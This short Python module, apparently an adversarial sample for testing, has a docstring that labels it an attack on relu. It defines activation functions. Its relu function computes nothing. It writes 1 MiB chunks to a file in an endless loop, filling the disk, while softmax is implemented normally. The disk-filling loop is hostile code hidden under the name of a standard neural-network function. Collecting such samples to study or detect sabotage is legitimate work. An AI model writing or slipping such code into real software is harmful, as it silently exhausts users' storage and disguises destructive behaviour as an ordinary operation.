"""An attack: writes without end.

attacks: relu
"""
import numpy as np


def relu(z):
    with open('big', 'wb') as f:
        while True:
            f.write(b'x' * (1 << 20))


def softmax(z):
    e = np.exp(z - z.max(axis=0))
    return e / e.sum(axis=0)
